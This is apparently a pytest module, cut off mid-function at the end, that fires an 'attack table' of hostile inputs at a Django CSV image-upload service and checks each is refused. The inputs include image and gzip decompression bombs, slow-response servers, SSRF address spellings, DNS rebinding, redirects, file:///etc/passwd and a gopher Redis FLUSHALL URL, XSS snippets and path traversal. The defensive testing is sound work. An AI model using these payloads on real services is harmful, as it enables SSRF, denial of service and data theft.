"""The attack table: hostile input through the real API and pipeline, one row per attack.

Read the parametrised tables below as a list of attacks and the outcome we promise. Every row
goes through `POST /csv/upload` in-process (Q_CLUSTER sync: the upload's tasks run before the
answer), against real servers on loopback:

* the image server of tests/conftest.py on 127.0.0.2, the one address the test settings allow
  (FETCH_ALLOWED_NETWORKS=127.0.0.2/32); it serves the hostile answers;
* a canary that must never be contacted, on 127.0.0.3 and, on the same port, 127.0.0.1 and
  [::1], so that every loopback spelling of `http://<host>:<port>/` lands on it if the guard
  lets it through. It counts TCP connections, not only requests, and answers with a valid
  JPEG, so a leak would also show up as a success.

An image row asserts: the image ends `failed` with the exact code and a message, the request
still completes (`failed`, with its output CSV), nothing was stored for the image, and the
canary saw nothing. A CSV row asserts a clean 4xx (never a 500) and that nothing was created.

The fetch guard's own address table is tests/test_fetch.py, the decoder's tests/test_compress.py
and the crashing/hanging decoder tests/test_crash.py; this module proves the service end to end.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import re
import socket
import struct
import subprocess
import sys
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import requests
from django.core.cache import cache
from django.core.files.storage import default_storage
from django.core.handlers.wsgi import WSGIHandler
from PIL import Image
from rest_framework.test import APIClient

from imageproc.pipeline.resources import fetch_policy
from products.models import ImageStatus, Product, ProductImage
from requests_app.models import ApiClient, ProcessingRequest, RequestStatus
from requests_app.services.clients import api_client_create, api_key_create
from tests.conftest import IMAGE_HOST, ROOT, ImageServer, csv_bytes, make_image

pytestmark = pytest.mark.django_db(transaction=True)

CANARY_HOSTS = ("127.0.0.3", "127.0.0.1", "::1")
# Small limits for the image table, so the oversize and trickle rows take a fraction of a
# second; the pixel limit stays at its real default (50 MP).
MAX_BYTES = 256 * 1024
TOTAL_TIMEOUT = 1.0


# --- The canary --------------------------------------------------------------------------------


class _CanaryServer(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self, address: tuple[str, int], canary: Canary) -> None:
        self.address_family = socket.AF_INET6 if ":" in address[0] else socket.AF_INET
        self.canary = canary
        super().__init__(address, _CanaryHandler)


class _CanaryHandler(BaseHTTPRequestHandler):
    server: _CanaryServer
    protocol_version = "HTTP/1.1"

    def setup(self) -> None:
        super().setup()
        with self.server.canary.lock:
            self.server.canary.connections += 1

    def do_GET(self) -> None:
        with self.server.canary.lock:
            self.server.canary.requests.append(f"{self.command} {self.path}")
        body = make_image(8, 8)
        self.send_response(200)
        self.send_header("Content-Type", "image/jpeg")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_HEAD = do_GET

    def log_message(self, *args: Any) -> None:
        pass


@dataclass
class Canary:
    """Listens on every address in CANARY_HOSTS on one port; counts whatever reaches it."""

    port: int = 0
    connections: int = 0
    requests: list[str] = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)
    servers: list[_CanaryServer] = field(default_factory=list)

    def start(self, port: int = 0) -> Canary:
        """On `port`, or on a port free on all three addresses."""
        for _ in range(1 if port else 50):
            servers: list[_CanaryServer] = []
            try:
                first = _CanaryServer((CANARY_HOSTS[0], port), self)
                servers.append(first)
                port = int(first.server_address[1])
                servers += [_CanaryServer((host, port), self) for host in CANARY_HOSTS[1:]]
            except OSError:
                for server in servers:
                    server.server_close()
                continue
            self.port, self.servers = port, servers
            for server in servers:
                threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
            return self
        raise RuntimeError("no port free on 127.0.0.3, 127.0.0.1 and [::1] at once")

    def url(self, host: str = "127.0.0.3", path: str = "/secret") -> str:
        return f"http://{host}:{self.port}{path}"

    @property
    def contacted(self) -> bool:
        return bool(self.connections or self.requests)

    def close(self) -> None:
        for server in self.servers:
            server.shutdown()
            server.server_close()


@pytest.fixture
def canary() -> Iterator[Canary]:
    c = Canary().start()
    yield c
    c.close()


@pytest.fixture(autouse=True)
def _fresh_state(settings: Any) -> Iterator[None]:
    # The throttle counts in the (LocMem) cache, and fetch_policy() is cached from settings.
    cache.clear()
    settings.IMAGE_MAX_BYTES = MAX_BYTES
    settings.FETCH_TOTAL_TIMEOUT = TOTAL_TIMEOUT
    fetch_policy.cache_clear()
    yield
    fetch_policy.cache_clear()
    cache.clear()


# --- Helpers -------------------------------------------------------------------------------------


def upload(client: APIClient, content: bytes, filename: str = "catalogue.csv", **extra: Any) -> Any:
    data = {"file": io.BytesIO(content)}
    data["file"].name = filename
    return client.post("/csv/upload", data, format="multipart", **extra)


def stored_files(request_id: Any) -> list[str]:
    try:
        return sorted(default_storage.listdir(f"outputs/{request_id}")[1])
    except FileNotFoundError:
        return []


def output_rows(client: APIClient, request_id: Any) -> list[list[str]]:
    response = client.get(f"/csv/output/{request_id}")
    assert response.status_code == 200, response.content
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def assert_nothing_created() -> None:
    assert ProcessingRequest.objects.count() == 0
    assert Product.objects.count() == ProductImage.objects.count() == 0


# --- Hostile payloads ----------------------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_header_bomb() -> bytes:
    """69 bytes claiming 100,000 x 100,000 pixels (10 GP)."""
    ihdr = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + _png_chunk(b"IEND", b"")
    )


def jpeg_header_bomb() -> bytes:
    """A valid 8x8 JPEG whose frame header is rewritten to 60,000 x 60,000."""
    data = bytearray(make_image(8, 8))
    sof = data.find(b"\xff\xc0")
    struct.pack_into(">HH", data, sof + 5, 60_000, 60_000)
    return bytes(data)


def gif_header_bomb() -> bytes:
    buf = io.BytesIO()
    Image.new("P", (8, 8)).save(buf, "GIF")
    data = bytearray(buf.getvalue())
    struct.pack_into("<HH", data, 6, 65_535, 65_535)
    return bytes(data)


def webp_canvas_bomb() -> bytes:
    """An extended WebP whose VP8X canvas says 16,383 x 16,383 (268 MP) in 80 bytes."""
    buf = io.BytesIO()
    Image.new("RGB", (16, 16)).save(buf, "WEBP", exif=b"Exif\x00\x00II*\x00\x08\x00\x00\x00\x00\x00")
    data = bytearray(buf.getvalue())
    vp8x = data.find(b"VP8X")
    assert vp8x > 0
    data[vp8x + 12 : vp8x + 15] = (16_383 - 1).to_bytes(3, "little")
    data[vp8x + 15 : vp8x + 18] = (16_383 - 1).to_bytes(3, "little")
    return bytes(data)


def png_pixel_bomb() -> bytes:
    """Real pixels: 8000 x 8000 (64 MP, over the 50 MP default) that deflate to ~8 KB."""
    buf = io.BytesIO()
    Image.new("1", (8000, 8000)).save(buf, "PNG")
    return buf.getvalue()


def png_strip() -> bytes:
    """70,000 x 1: few pixels, but wider than a JPEG can be (65,500)."""
    buf = io.BytesIO()
    Image.new("1", (70_000, 1)).save(buf, "PNG")
    return buf.getvalue()


def png_chunk_bomb(kind: bytes) -> bytes:
    """A small valid PNG with a zTXt/iCCP chunk that inflates to 50 MB (51 KB on the wire)."""
    buf = io.BytesIO()
    Image.new("RGB", (8, 8)).save(buf, "PNG")
    png = buf.getvalue()
    bomb = _png_chunk(kind, b"k\x00\x00" + zlib.compress(b"A" * (50 * 1024 * 1024), 9))
    return png[:33] + bomb + png[33:]  # right after IHDR


def truncated_jpeg() -> bytes:
    data = make_image(400, 300)
    return data[: len(data) // 2]


EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n(/etc/passwd) (r) file\nshowpage\n"
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
PSD = b"8BPS\x00\x01" + b"\x00" * 6 + b"\x00\x03" + struct.pack(">II", 10, 10) + b"\x00\x08\x00\x03" + b"\x00" * 20
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>alert(1)</script></svg>'
)
HTML = b"<!doctype html><html><body><img src=x onerror=alert(1)></body></html>"


# --- Raw answers (the image server's `respond` hook) ----------------------------------------------


def _head(h: BaseHTTPRequestHandler, status: int = 200, **headers: str) -> None:
    h.send_response(status)
    h.send_header("Content-Type", "image/jpeg")
    for name, value in headers.items():
        h.send_header(name.replace("_", "-"), value)
    h.end_headers()


def trickle_body(h: BaseHTTPRequestHandler) -> None:
    """A JPEG whose 40 bytes arrive one every 0.3 s: each read is quick, the whole is not."""
    _head(h, Content_Length="40")
    for byte in (make_image(8, 8)[:40]).ljust(40, b"\x00"):
        h.wfile.write(bytes([byte]))
        h.wfile.flush()
        time.sleep(0.3)


def trickle_headers(h: BaseHTTPRequestHandler) -> None:
    """Slowloris in reverse: the response headers never end."""
    h.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Type: image/jpeg\r\n")
    for byte in b"X-Slow: " + b"a" * 60:
        h.wfile.write(bytes([byte]))
        h.wfile.flush()
        time.sleep(0.3)


def claims_a_terabyte(h: BaseHTTPRequestHandler) -> None:
    _head(h, Content_Length=str(10**12))
    h.wfile.write(make_image(8, 8))


def claims_more_than_sent(h: BaseHTTPRequestHandler) -> None:
    """Content-Length 100,000, then a whole small JPEG (~1 KB) and a hang-up."""
    _head(h, Content_Length="100000")
    h.wfile.write(make_image(8, 8))


def claims_less_than_sent(h: BaseHTTPRequestHandler) -> None:
    """Content-Length 16, then a whole JPEG: only the first 16 bytes may be taken."""
    _head(h, Content_Length="16")
    h.wfile.write(make_image(64, 64))


def oversize_honest(h: BaseHTTPRequestHandler) -> None:
    body = make_image(8, 8) + b"\x00" * (MAX_BYTES + 1)
    _head(h, Content_Length=str(len(body)))
    h.wfile.write(body)


def oversize_chunked(h: BaseHTTPRequestHandler) -> None:
    """No Content-Length at all: the cap must hold while streaming."""
    _head(h, Transfer_Encoding="chunked")
    piece = make_image(8, 8).ljust(64 * 1024, b"\x00")
    for _ in range(MAX_BYTES // len(piece) + 4):
        h.wfile.write(b"%x\r\n%s\r\n" % (len(piece), piece))
    h.wfile.write(b"0\r\n\r\n")


def gzip_bomb(h: BaseHTTPRequestHandler) -> None:
    """Content-Encoding: gzip although we asked for identity: 10 MB decoded, ~10 KB sent."""
    body = gzip.compress(make_image(8, 8) + b"\x00" * (10 * 1024 * 1024))
    _head(h, Content_Length=str(len(body)), Content_Encoding="gzip")
    h.wfile.write(body)


# --- The image attack table ----------------------------------------------------------------------

Serve = Callable[[ImageServer, Canary], str]


def body(data: bytes | Callable[[], bytes], content_type: str = "image/jpeg", status: int = 200) -> Serve:
    """Serve `data` (or what the factory makes, built only when the row runs)."""

    def serve(server: ImageServer, canary: Canary) -> str:
        payload = data() if callable(data) else data
        return server.add("/attack", payload, content_type=content_type, status=status)

    return serve


def raw(respond: Callable[[BaseHTTPRequestHandler], None]) -> Serve:
    def serve(server: ImageServer, canary: Canary) -> str:
        return server.add("/attack", b"", respond=respond)

    return serve


def redirect(location: Callable[[ImageServer, Canary], str], status: int = 302) -> Serve:
    def serve(server: ImageServer, canary: Canary) -> str:
        return server.add("/attack", b"", status=status, headers={"Location": location(server, canary)})

    return serve


def chain(hops: int) -> Serve:
    """`hops` redirects on the allowed server, then an image."""

    def serve(server: ImageServer, canary: Canary) -> str:
        server.add(f"/hop{hops}", make_image(8, 8))
        for n in range(hops):
            server.add(f"/hop{n}", b"", status=302, headers={"Location": f"/hop{n + 1}"})
        return server.base_url + "/hop0"

    return serve


def direct(url: Callable[[Canary], str]) -> Serve:
    def serve(server: ImageServer, canary: Canary) -> str:
        return url(canary)

    return serve


IMAGE_ATTACKS = [
    # Decompression bombs: the pixel count is checked from the header, before any decoding.
    pytest.param(body(png_header_bomb), "too_many_pixels", id="png-header-claims-100000x100000-in-69-bytes"),
    pytest.param(body(jpeg_header_bomb), "too_many_pixels", id="jpeg-header-claims-60000x60000"),
    pytest.param(body(gif_header_bomb, "image/gif"), "too_many_pixels", id="gif-header-claims-65535x65535"),
    pytest.param(body(webp_canvas_bomb, "image/webp"), "too_many_pixels", id="webp-canvas-claims-16383x16383"),
    pytest.param(body(png_pixel_bomb, "image/png"), "too_many_pixels", id="png-bomb-64MP-real-pixels-in-8KB"),
    pytest.param(body(png_strip, "image/png"), "too_many_pixels", id="png-70000x1-wider-than-jpeg-allows"),
    pytest.param(
        body(lambda: png_chunk_bomb(b"zTXt"), "image/png"), "decode_error", id="png-ztxt-chunk-inflates-to-50MB"
    ),
    pytest.param(
        body(lambda: png_chunk_bomb(b"iCCP"), "image/png"), "decode_error", id="png-iccp-chunk-inflates-to-50MB"
    ),
    # Broken and refused formats.
    pytest.param(body(truncated_jpeg), "decode_error", id="truncated-jpeg"),
    pytest.param(body(EPS), "not_an_image", id="eps-served-as-image-jpeg"),
    pytest.param(body(PDF), "not_an_image", id="pdf-served-as-image-jpeg"),
    pytest.param(body(PSD), "not_an_image", id="psd-served-as-image-jpeg"),
    pytest.param(body(b"\xff\xd8\xff" + EPS), "decode_error", id="postscript-behind-jpeg-magic-bytes"),
    pytest.param(body(SVG, "image/svg+xml"), "not_an_image", id="svg-with-script"),
    pytest.param(body(HTML), "not_an_image", id="html-served-as-image-jpeg"),
    pytest.param(body(b""), "not_an_image", id="empty-body"),
    pytest.param(body(b"gone", "text/plain", 404), "http_404", id="http-404"),
    pytest.param(body(b"boom", "text/plain", 500), "http_500", id="http-500"),
    # Slow and lying servers: one total deadline, a byte cap while streaming and from the header.
    pytest.param(raw(trickle_body), "timeout", id="trickle-body-one-byte-every-0.3s"),
    pytest.param(raw(trickle_headers), "timeout", id="trickle-headers-never-end"),
    pytest.param(raw(claims_a_terabyte), "too_large", id="content-length-claims-1TB"),
    pytest.param(raw(claims_more_than_sent), "fetch_error", id="content-length-longer-than-body"),
    pytest.param(raw(claims_less_than_sent), "decode_error", id="content-length-shorter-than-body"),
    pytest.param(raw(oversize_honest), "too_large", id="oversize-with-content-length"),
    pytest.param(raw(oversize_chunked), "too_large", id="oversize-chunked-no-content-length"),
    pytest.param(raw(gzip_bomb), "too_large", id="gzip-content-encoding-bomb"),
    # Private addresses, directly in the CSV: valid URLs, refused at connect time.
    pytest.param(direct(lambda c: c.url("127.0.0.3")), "blocked_address", id="direct-127.0.0.3-not-allowed"),
    pytest.param(direct(lambda c: c.url("127.0.0.1")), "blocked_address", id="direct-127.0.0.1"),
    pytest.param(direct(lambda c: c.url("localhost")), "blocked_address", id="direct-localhost"),
    pytest.param(direct(lambda c: c.url("LocalHost.")), "blocked_address", id="direct-localhost-trailing-dot"),
    pytest.param(direct(lambda c: c.url("0.0.0.0")), "blocked_address", id="direct-0.0.0.0"),
    pytest.param(direct(lambda c: c.url("[::1]")), "blocked_address", id="direct-ipv6-loopback"),
    pytest.param(direct(lambda c: c.url("[::]")), "blocked_address", id="direct-ipv6-unspecified"),
    pytest.param(direct(lambda c: c.url("[::ffff:127.0.0.1]")), "blocked_address", id="direct-ipv4-mapped-ipv6"),
    # Redirects from the allowed server: every hop is checked again.
    pytest.param(redirect(lambda s, c: c.url("127.0.0.3")), "blocked_address", id="redirect-to-private-address"),
    pytest.param(redirect(lambda s, c: c.url("127.0.0.1"), 307), "blocked_address", id="redirect-307-to-loopback"),
    pytest.param(redirect(lambda s, c: c.url("localhost"), 301), "blocked_address", id="redirect-301-to-localhost"),
    pytest.param(redirect(lambda s, c: c.url("[::1]"), 308), "blocked_address", id="redirect-308-to-ipv6-loopback"),
    pytest.param(
        redirect(lambda s, c: c.url("[::ffff:127.0.0.3]")), "blocked_address", id="redirect-to-ipv4-mapped-private"
    ),
    pytest.param(redirect(lambda s, c: f"http://2130706433:{c.port}/"), "invalid_url", id="redirect-to-decimal-ip"),
    pytest.param(redirect(lambda s, c: "file:///etc/passwd"), "invalid_url", id="redirect-to-file-scheme"),
    pytest.param(
        redirect(lambda s, c: f"http://{IMAGE_HOST}@127.0.0.3:{c.port}/"), "invalid_url", id="redirect-with-userinfo"
    ),
    pytest.param(redirect(lambda s, c: s.base_url + "/attack"), "too_many_redirects", id="redirect-loop"),
    pytest.param(chain(4), "too_many_redirects", id="four-redirects-over-the-cap-of-3"),
]


def process_one(client: APIClient, url: str) -> tuple[ProcessingRequest, ProductImage]:
    response = upload(client, csv_bytes([("1", "Victim", [url])]))
    assert response.status_code == 202, response.content
    request = ProcessingRequest.objects.get(pk=response.json()["request_id"])
    return request, ProductImage.objects.get(request=request)


@pytest.mark.parametrize(("serve", "code"), IMAGE_ATTACKS)
def test_image_attack(api: APIClient, image_server: ImageServer, canary: Canary, serve: Serve, code: str) -> None:
    url = serve(image_server, canary)
    request, image = process_one(api, url)

    # The image failed with the exact code and a message...
    assert (image.status, image.error_code) == (ImageStatus.FAILED, code), image.error_message
    assert image.error_message
    # ...the request still completed, with its output CSV (an empty output slot)...
    assert request.status == RequestStatus.FAILED
    assert request.completed_at is not None
    assert (request.images_failed, request.images_done) == (1, 0)
    assert output_rows(api, request.pk)[1][2:] == [url, ""]
    # ...nothing was stored for the image...
    assert image.output_name == ""
    assert stored_files(request.pk) == ["output.csv"]
    # ...and no private address was contacted.
    assert not canary.contacted, canary.requests


def test_control_a_real_image_passes_the_same_checks_the_other_way(
    api: APIClient, image_server: ImageServer, canary: Canary
) -> None:
    """The table's checks can fail: a real image through the same path is stored."""
    request, image = process_one(api, image_server.add("/real.jpg", make_image(320, 240)))
    assert (image.status, request.status) == (ImageStatus.DONE, RequestStatus.COMPLETED)
    assert stored_files(request.pk) == sorted(["output.csv", image.output_name.rsplit("/", 1)[1]])
    assert not canary.contacted


# --- DNS rebinding (the only place a resolver stub is used) ------------------------------------


@dataclass
class Resolver:
    """Names in `answers` resolve from it, one list of addresses per lookup in turn (the last
    repeats); `lookups` counts them. Every other name goes to the real resolver."""

    answers: dict[str, list[list[str]]] = field(default_factory=dict)
    lookups: dict[str, int] = field(default_factory=dict)


@pytest.fixture
def resolver(monkeypatch: pytest.MonkeyPatch) -> Resolver:
    stub = Resolver()
    real = socket.getaddrinfo

    def getaddrinfo(host: Any, port: Any, *args: Any, **kwargs: Any) -> Any:
        if not (isinstance(host, str) and host in stub.answers):
            return real(host, port, *args, **kwargs)
        n = stub.lookups[host] = stub.lookups.get(host, 0) + 1
        answers = stub.answers[host]
        return [
            (socket.AF_INET6, socket.SOCK_STREAM, 6, "", (a, int(port), 0, 0))
            if ":" in a
            else (socket.AF_INET, socket.SOCK_STREAM, 6, "", (a, int(port)))
            for a in answers[min(n, len(answers)) - 1]
        ]

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    return stub


def test_dns_rebinding_never_reaches_the_second_answer(
    api: APIClient, image_server: ImageServer, canary: Canary, resolver: Resolver
) -> None:
    """First answer allowed, every later one private: the download connects to the address
    that was checked, and the name is resolved once."""
    image_server.add("/img.jpg", make_image(64, 64))
    port = int(image_server.base_url.rsplit(":", 1)[1])
    # A canary on the image server's own port: a second lookup would connect right into it.
    private = Canary().start(port=port)
    try:
        resolver.answers["rebind.attack.test"] = [[IMAGE_HOST], ["127.0.0.3"]]
        request, image = process_one(api, f"http://rebind.attack.test:{port}/img.jpg")
    finally:
        private.close()
    assert (image.status, request.status) == (ImageStatus.DONE, RequestStatus.COMPLETED)
    assert image_server.hits["/img.jpg"] == 1
    assert resolver.lookups["rebind.attack.test"] == 1
    assert not private.contacted, private.requests
    assert not canary.contacted


@pytest.mark.parametrize(
    "answers",
    [
        pytest.param([["127.0.0.3"], [IMAGE_HOST]], id="first-answer-private"),
        pytest.param([[IMAGE_HOST, "127.0.0.3"]], id="one-allowed-one-private-address"),
        pytest.param([["::1", IMAGE_HOST]], id="ipv6-loopback-among-the-answers"),
    ],
)
def test_dns_answer_with_a_private_address_is_blocked(
    api: APIClient, image_server: ImageServer, canary: Canary, resolver: Resolver, answers: list[list[str]]
) -> None:
    image_server.add("/img.jpg", make_image(64, 64))
    resolver.answers["mixed.attack.test"] = answers
    # The canary's port: 127.0.0.3 and [::1] answer there, and so does 127.0.0.2 for the image.
    request, image = process_one(api, f"http://mixed.attack.test:{canary.port}/img.jpg")
    assert (image.status, image.error_code) == (ImageStatus.FAILED, "blocked_address")
    assert request.status == RequestStatus.FAILED
    assert stored_files(request.pk) == ["output.csv"]
    assert image_server.hits["/img.jpg"] == 0
    assert not canary.contacted


# --- The CSV attack table (POST /csv/upload) -------------------------------------------------------

HEADER = b"S. No.,Product Name,Input Image Urls\n"
GOOD_URL = "http://img.example/a.jpg"  # only in uploads refused before any fetch
TWO_MIB = b"A" * (2 * 1024 * 1024)


def csv_with_url(url: str) -> bytes:
    return HEADER + f'1,Victim,"{url}"\n'.encode()


def million_rows() -> bytes:
    """1,000,000 valid rows in 19 MB: under the 20 MiB byte cap, far over the row cap."""
    return HEADER + b"".join(b"%x,P,http://a.b/\n" % i for i in range(1_000_000))


@dataclass(frozen=True)
class CsvAttack:
    content: bytes | Callable[[], bytes]
    status: int = 400
    error: str = "invalid_csv"
    settings: dict[str, Any] = field(default_factory=dict)


CSV_ATTACKS = [
    pytest.param(CsvAttack(HEADER + b'1,"' + TWO_MIB + b'",' + GOOD_URL.encode()), id="huge-field-2MiB"),
    pytest.param(CsvAttack(HEADER + b'1,"P,' + GOOD_URL.encode() + b"\n" + TWO_MIB), id="unclosed-quote-to-the-end"),
    pytest.param(CsvAttack(HEADER + b"1,P\x00,http://img.example/a.jpg\n"), id="nul-byte"),
    pytest.param(CsvAttack(lambda: make_image(32, 32, "PNG")), id="png-uploaded-as-csv"),
    pytest.param(CsvAttack(b"PK\x03\x04" + b"\x14\x00" * 200), id="xlsx-workbook-uploaded-as-csv"),
    pytest.param(CsvAttack(csv_with_url(GOOD_URL).decode().encode("utf-16")), id="utf-16-text"),
    pytest.param(CsvAttack(HEADER + b"1,P\x1b[31m,http://img.example/a.jpg\n"), id="terminal-escape-controls"),
    pytest.param(CsvAttack(b""), id="empty-file"),
    pytest.param(CsvAttack(HEADER), id="header-only"),
    pytest.param(CsvAttack(million_rows), id="a-million-rows"),
    pytest.param(
        CsvAttack(HEADER + b"".join(b"%d,P,http://a.b/\n" % i for i in range(101)), settings={"CSV_MAX_ROWS": 100}),
        id="one-row-over-CSV_MAX_ROWS",
    ),
    pytest.param(
        CsvAttack(csv_with_url(GOOD_URL).ljust(4097, b"\n"), 413, "too_large", {"CSV_MAX_BYTES": 4096}),
        id="one-byte-over-CSV_MAX_BYTES",
    ),
    pytest.param(CsvAttack(csv_with_url(",".join([GOOD_URL] * 51))), id="51-urls-in-one-row"),
    pytest.param(CsvAttack(csv_with_url("http://img.example/" + "a" * 9000)), id="url-over-8KiB"),
    pytest.param(CsvAttack(HEADER + b"1," + b"N" * 1025 + b"," + GOOD_URL.encode() + b"\n"), id="name-over-1024-chars"),
    # Loopback spellings the C resolver would turn into 127.0.0.1: refused from the string.
    pytest.param(CsvAttack(csv_with_url("http://2130706433/a.jpg")), id="decimal-ip-2130706433"),
    pytest.param(CsvAttack(csv_with_url("http://0x7f.1/a.jpg")), id="hex-ip-0x7f.1"),
    pytest.param(CsvAttack(csv_with_url("http://0177.0.0.1/a.jpg")), id="octal-ip-0177.0.0.1"),
    pytest.param(CsvAttack(csv_with_url("http://127.1/a.jpg")), id="short-ip-127.1"),
    pytest.param(CsvAttack(csv_with_url("http://0/a.jpg")), id="zero-ip-0"),
    # Parser differentials and other schemes.
    pytest.param(CsvAttack(csv_with_url("http://img.example@127.0.0.1/a.jpg")), id="userinfo"),
    pytest.param(CsvAttack(csv_with_url("http://img.example\\@127.0.0.1/a.jpg")), id="backslash"),
    pytest.param(CsvAttack(csv_with_url("http://img.example/a b.jpg")), id="space-in-url"),
    pytest.param(CsvAttack(csv_with_url("http://img.example/a\u202egpj.exe")), id="bidi-override-in-url"),
    pytest.param(CsvAttack(csv_with_url("file:///etc/passwd")), id="file-scheme"),
    pytest.param(CsvAttack(csv_with_url("gopher://127.0.0.1:6379/_FLUSHALL")), id="gopher-scheme"),
    pytest.param(CsvAttack(csv_with_url("ftp://img.example/a.jpg")), id="ftp-scheme"),
    pytest.param(CsvAttack(csv_with_url("data:image/png;base64,iVBORw0KGgo=")), id="data-scheme"),
    pytest.param(CsvAttack(csv_with_url("javascript:alert(1)")), id="javascript-scheme"),
    pytest.param(CsvAttack(csv_with_url("http:///a.jpg")), id="no-host"),
]


@pytest.mark.parametrize("attack", CSV_ATTACKS)
def test_csv_attack(api: APIClient, settings: Any, attack: CsvAttack) -> None:
    for name, value in attack.settings.items():
        setattr(settings, name, value)
    content = attack.content() if callable(attack.content) else attack.content
    response = upload(api, content)
    assert response.status_code == attack.status, response.content[:500]
    body = response.json()
    if attack.error in ("invalid_csv", "too_large"):
        assert body["error"] == attack.error
        assert body["detail"]
    else:  # a form field's own error, e.g. {"quality": ["..."]}
        assert body[attack.error]
    if attack.error == "invalid_csv":
        assert body["errors"] and body["errors_total"] >= 1
    assert_nothing_created()


@pytest.mark.parametrize(
    ("extra", "status", "key"),
    [
        pytest.param({"HTTP_IDEMPOTENCY_KEY": "k" * 256}, 400, "Idempotency-Key", id="idempotency-key-over-255"),
        pytest.param({"HTTP_IDEMPOTENCY_KEY": "clé"}, 400, "Idempotency-Key", id="idempotency-key-not-ascii"),
        pytest.param({"data": {"webhook_url": "file:///etc/passwd"}}, 400, "webhook_url", id="webhook-file-scheme"),
        pytest.param(
            {"data": {"webhook_url": "http://127.0.0.3:9/hook"}}, 400, "webhook_url", id="webhook-to-private-address"
        ),
        pytest.param({"data": {"quality": "1e9"}}, 400, "quality", id="quality-not-an-integer"),
    ],
)
def test_upload_field_attack(api: APIClient, extra: dict[str, Any], status: int, key: str) -> None:
    data = {"file": io.BytesIO(csv_with_url(GOOD_URL)), **extra.pop("data", {})}
    response = api.post("/csv/upload", data, format="multipart", **extra)
    assert response.status_code == status, response.content
    assert key in response.json()
    assert_nothing_created()


def test_json_body_instead_of_multipart_is_a_clean_400(api: APIClient) -> None:
    response = api.post("/csv/upload", {"file": "1,A,http://img.example/a.jpg"}, format="json")
    assert response.status_code == 400
    body = response.json()
    assert body["error"] == "invalid_csv"  # every problem with the file has the CSV's shape
    assert [(e["row"], e["column"]) for e in body["errors"]] == [(None, "file")]
    assert body["errors"][0]["message"]
    assert_nothing_created()


def test_path_traversal_in_the_upload_filename_is_only_a_label(api: APIClient, image_server: ImageServer) -> None:
    url = image_server.add("/a.jpg", make_image(32, 32))
    response = upload(api, csv_bytes([("1", "A", [url])]), filename="../../../../etc/cron.d/evil.csv")
    assert response.status_code == 202
    request = ProcessingRequest.objects.get(pk=response.json()["request_id"])
    assert request.original_filename == "evil.csv"  # Django keeps the base name only
    assert request.output_csv_name == f"outputs/{request.pk}/output.csv"
    image = ProductImage.objects.get(request=request)
    assert image.output_name.startswith(f"outputs/{request.pk}/")
    assert ".." not in image.output_name


@pytest.mark.parametrize(
    "path",
    [
        pytest.param("/csv/status/--ab8c0aa61B6DB0cA0C5fBe5C09cC50", id="status-malformed-uuid"),
        pytest.param("/csv/output/ffffffffffffffffffffffffffffffff-", id="output-malformed-uuid"),
        pytest.param("/csv/requests?page=", id="list-empty-page"),
        pytest.param("/csv/requests?page=-1", id="list-negative-page"),
        pytest.param("/csv/requests?page=99999999999999999999999", id="list-huge-page"),
    ],
)
def test_malformed_ids_and_pages_are_404_not_500(api: APIClient, path: str) -> None:
    """Found by schemathesis: the id pattern lets through strings that are not UUIDs."""
    response = api.get(path)
    assert response.status_code == 404, response.content
    assert response.json()["detail"]
    assert api.post("/csv/requests/--ab8c0aa61B6DB0cA0C5fBe5C09cC50/retry").status_code == 404


# --- The body is refused before it is read (WSGI level) -------------------------------------------


class CountingInput(io.RawIOBase):
    """A request body that never ends; counts the bytes anybody reads from it."""

    def __init__(self) -> None:
        self.bytes_read = 0

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: Any) -> int:
        n = min(len(buffer), 64 * 1024)
        buffer[:n] = b"\x00" * n
        self.bytes_read += n
        return n


def call_wsgi(api_key: str, content_length: str, stream: io.RawIOBase) -> tuple[str, bytes]:
    environ = {
        "REQUEST_METHOD": "POST",
        "PATH_INFO": "/csv/upload",
        "SCRIPT_NAME": "",
        "QUERY_STRING": "",
        "SERVER_NAME": "testserver",
        "SERVER_PORT": "80",
        "SERVER_PROTOCOL": "HTTP/1.1",
        "REMOTE_ADDR": "127.0.0.1",
        "CONTENT_TYPE": "multipart/form-data; boundary=attack",
        "CONTENT_LENGTH": content_length,
        "HTTP_AUTHORIZATION": f"Bearer {api_key}",
        "wsgi.version": (1, 0),
        "wsgi.url_scheme": "http",
        "wsgi.input": stream,
        "wsgi.errors": io.StringIO(),
        "wsgi.multithread": True,
        "wsgi.multiprocess": False,
        "wsgi.run_once": False,
    }
    statuses: list[str] = []
    result = WSGIHandler()(environ, lambda status, headers, *exc: statuses.append(status))
    content = b"".join(result)
    result.close()
    return statuses[0], content


def test_two_gigabyte_upload_is_refused_before_the_body_is_read(api_key: str) -> None:
    stream = CountingInput()
    status, content = call_wsgi(api_key, str(2 * 1024**3), stream)
    assert status.startswith("413"), content
    assert b'"too_large"' in content
    assert stream.bytes_read == 0
    assert_nothing_created()


def test_garbage_content_length_is_a_clean_400(api_key: str) -> None:
    stream = CountingInput()
    status, content = call_wsgi(api_key, "12abc", stream)
    assert status.startswith("400"), content
    assert stream.bytes_read == 0
    assert_nothing_created()


def test_a_body_just_over_the_limit_is_413_through_a_real_server(
    api_key: str, settings: Any, live_server: Any, image_server: ImageServer
) -> None:
